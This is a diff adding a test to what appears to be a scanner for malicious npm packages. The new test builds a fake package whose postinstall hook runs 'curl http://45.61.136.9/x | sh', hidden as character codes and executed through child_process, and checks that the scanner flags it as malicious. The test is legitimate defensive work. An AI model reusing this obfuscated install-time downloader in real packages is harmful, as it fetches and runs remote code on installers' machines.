@@ -278,3 +278,11 @@ def test_child_process_reached_without_a_plain_require(load: str) -> None:
                              scripts={"postinstall": "node setup.js"}))
     assert any(s.kind == "exec.process" and s.file == "setup.js" and s.detail.get("api") == "child_process.exec"
                for s in facts.signals), [(s.kind, s.detail) for s in facts.signals]
+
+
+def test_command_spelled_as_character_codes_spread_into_from_char_code() -> None:
+    codes = ",".join(str(ord(c)) for c in "curl http://45.61.136.9/x | sh")
+    code = f"const k = [{codes}];\nrequire('child_process').exec(String.fromCharCode(...k));\n"
+    result, top = verdict(npm_tgz("fmt-utils", "2.0.0", {"setup.js": code, "index.js": "module.exports = 1;\n"},
+                                  scripts={"postinstall": "node setup.js"}))
+    assert result == "malicious" and "package.install-downloader:critical" in top, top
